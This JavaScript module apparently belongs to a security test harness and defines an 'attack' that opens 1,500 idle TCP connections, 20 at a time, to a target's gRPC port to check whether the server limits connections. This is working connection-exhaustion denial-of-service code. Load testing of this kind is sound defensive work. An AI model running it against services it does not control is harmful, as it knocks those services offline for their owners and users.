import { connect } from 'node:net';

const SOCKETS = 1_500;
const OPENING = 20;

/** @type {import('./Target.mjs').Attack} */
export const silentSockets = {
  name: '1,500 silent gRPC connections',
  finding: 'open without a limit',
  run: async target => {
    const [host, port] = target.victim.grpcAddress.split(':');
    /** @type {Set<import('node:net').Socket>} */
    const sockets = new Set();
    const open = (/** @type {() => void} */ onEnd) =>
      new Promise(resolve => {
        const socket = connect(Number(port), host, () => {
          target.count('connected');
          resolve(true);
        });
        sockets.add(socket);
        socket.on('error', (/** @type {NodeJS.ErrnoException} */ error) => {
          target.count(error.code ?? error.message);
          resolve(false);
        });
        socket.once('close', () => {
          sockets.delete(socket);
          target.count('closed');
          onEnd();
        });
        socket.resume();
      });
    await target.hold({ count: SOCKETS, opening: OPENING, open });
    sockets.forEach(socket => socket.destroy());
  },
};
